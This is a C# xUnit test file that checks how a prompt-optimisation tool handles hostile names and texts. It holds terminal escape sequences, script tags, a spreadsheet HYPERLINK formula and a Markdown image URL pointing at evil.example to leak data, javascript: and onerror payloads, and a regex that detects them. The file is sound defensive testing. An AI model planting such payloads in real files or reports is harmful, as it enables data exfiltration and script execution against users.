using System.Text;
using Grpc.Core;
using Ipo.Cli.Output;
using Ipo.Tests.Fakes;
using Markdig;
using Xunit;

namespace Ipo.Tests.Orchestrator.Attacks;

/// <summary>Names and texts that would do something where they are shown: on a terminal, in a report, in a spreadsheet.</summary>
public sealed class HostileTextTests : OrchestratorTest
{
    public static TheoryData<string> Unprintable =>
    [
        "a\u001b[2Jb", "a\u001b]0;x\u0007b", "a\rb", "a\nINJECTED 00:00 FATAL b", "a\u202eb", "a\u2066b", "a\u200bb", "a\u2028b", "a\u0085b", "a\U000E0041b",
    ];

    [Theory]
    [MemberData(nameof(Unprintable))]
    public async Task A_file_name_that_is_left_out_stands_on_its_line_and_shows_what_it_hides(string name)
    {
        TinyDataset.Write(Folder, "data/tiny");
        Folder.Write($"data/tiny/kind_a/{name}.txt", "x");
        Folder.Write($"data/tiny/kind_a/{name}.png", "no image");
        var dataset = await Lab.RegisterAsync("tiny");
        Assert.Equal(2, dataset.Warnings.Count);
        Assert.All(dataset.Warnings, AssertPlain);
        Assert.All(dataset.Warnings, warning => Assert.Contains('\uFFFD', warning));
    }

    [Theory]
    [MemberData(nameof(Unprintable))]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("</INS><INS>")]
    public async Task A_class_whose_name_hides_something_or_is_markup_is_refused(string name)
    {
        TinyDataset.Write(Folder, "data/tiny");
        Folder.Write("data/list/images.txt", "");
        foreach (var number in Enumerable.Range(0, 6)) Folder.Write($"data/list/{number}.png", TinyDataset.Image($"{number}"));
        Folder.Write(
            "data/list/list.csv",
            "image,class\n" + string.Concat(Enumerable.Range(0, 6).Select(number => $"{number}.png,\"{(number % 2 == 0 ? name : "other")}\"\n")));
        if (name.All(letter => !char.IsControl(letter) || char.IsWhiteSpace(letter)) && name.Any(char.IsWhiteSpace))
        {
            var dataset = await Lab.RegisterAsync("list"); // white space of any kind is a blank
            Assert.Equal(["a " + name[2..], "other"], dataset.ClassNames);
            return;
        }
        var words = await OrchestratorLab.RefusedAsync(
            StatusCode.InvalidArgument, async () => await Client.Datasets.RegisterDatasetAsync(new() { Path = "list" }, cancellationToken: Cancellation));
        Assert.Contains("rename the class", words, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Unprintable))]
    public async Task A_display_name_or_a_label_that_hides_something_is_refused(string text)
    {
        TinyDataset.Write(Folder, "data/tiny");
        await Lab.RegisterAsync("tiny");
        await OrchestratorLab.RefusedAsync(StatusCode.InvalidArgument, async () => await Client.Runs.CreateRunAsync(
            new() { Settings = new() { Dataset = "tiny" }, DisplayName = text }, cancellationToken: Cancellation));
        await OrchestratorLab.RefusedAsync(StatusCode.InvalidArgument, async () => await Client.Runs.CreateRunAsync(
            new() { Settings = new() { Dataset = "tiny" }, Labels = { ["team"] = text } }, cancellationToken: Cancellation));
    }

    [Theory]
    [MemberData(nameof(Unprintable))]
    public void On_a_terminal_no_text_of_others_moves_the_cursor_or_turns(string text)
    {
        var plain = Terminal.Plain(text);
        Assert.DoesNotContain(plain, letter => letter is '\u001b' or '\u0007' or '\r' or '\u0085' or '\u202e' or '\u2066');
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"<CLASS>\")")]
    [InlineData("=1+1 <CLASS>")]
    [InlineData("+1 <CLASS>")]
    [InlineData("-1 <CLASS>")]
    [InlineData("@SUM(A1) <CLASS>")]
    [InlineData("a <CLASS>, \"and\" =1")]
    public async Task A_template_that_is_a_formula_is_text_in_the_spreadsheet_and_in_the_report(string template)
    {
        TinyDataset.Write(Folder, "data/tiny");
        await Lab.RegisterAsync("tiny");
        Fakes.PromptGen.Answer = _ => $"<INS>{template}</INS>";
        await Lab.CreateAsync(new() { Dataset = "tiny", Preset = "ipo-paper", Steps = 1, Shots = 1 }, "run");
        await Lab.EndAsync("run");
        var bytes = new MemoryStream();
        using var export = Client.Reports.ExportRun(new() { RunId = "run", Format = V1.ExportFormat.Candidates }, cancellationToken: Cancellation);
        await foreach (var part in export.ResponseStream.ReadAllAsync(Cancellation)) part.Content.WriteTo(bytes);
        var csv = Encoding.UTF8.GetString(bytes.ToArray());
        var shown = "=+-@".Contains(template[0], StringComparison.Ordinal) ? $"'{template}" : template;
        Assert.Contains($",\"{shown.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(csv.Split(','), cell => cell.TrimStart('"') is ['=' or '+' or '@', ..]);
    }

    [Theory]
    [InlineData("![x](https://evil.example/?q=<CLASS>)")]
    [InlineData("[click](javascript:alert(1)) <CLASS>")]
    [InlineData("| a | <CLASS> |")]
    [InlineData("`` <CLASS> ` [x](http://e)")]
    [InlineData("&lt;img src=x onerror=alert(1)&gt; <CLASS>")]
    public async Task A_template_that_is_Markdown_is_code_in_the_report_and_nothing_else(string template)
    {
        TinyDataset.Write(Folder, "data/tiny");
        await Lab.RegisterAsync("tiny");
        Fakes.PromptGen.Answer = _ => $"<INS>{template}</INS>";
        await Lab.CreateAsync(new() { Dataset = "tiny", Preset = "ipo-paper", Steps = 1, Shots = 1 }, "run");
        Assert.Null((await Lab.EndAsync("run")).FailureReason);
        var report = Markdown.ToHtml(
            await Lab.Http.GetStringAsync("/runs/run/report.md", Cancellation),
            new MarkdownPipelineBuilder().UseAdvancedExtensions().Build());
        Assert.Contains("<code>", report, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example/?q=\"", report, StringComparison.Ordinal);
        Assert.DoesNotMatch("<(img|script|a)[ >][^>]*(evil|javascript|onerror|http://e\")", report);
    }

    private static void AssertPlain(string text) =>
        Assert.DoesNotContain(text, letter => char.IsControl(letter) || char.GetUnicodeCategory(letter) is System.Globalization.UnicodeCategory.Format
            or System.Globalization.UnicodeCategory.LineSeparator);
}
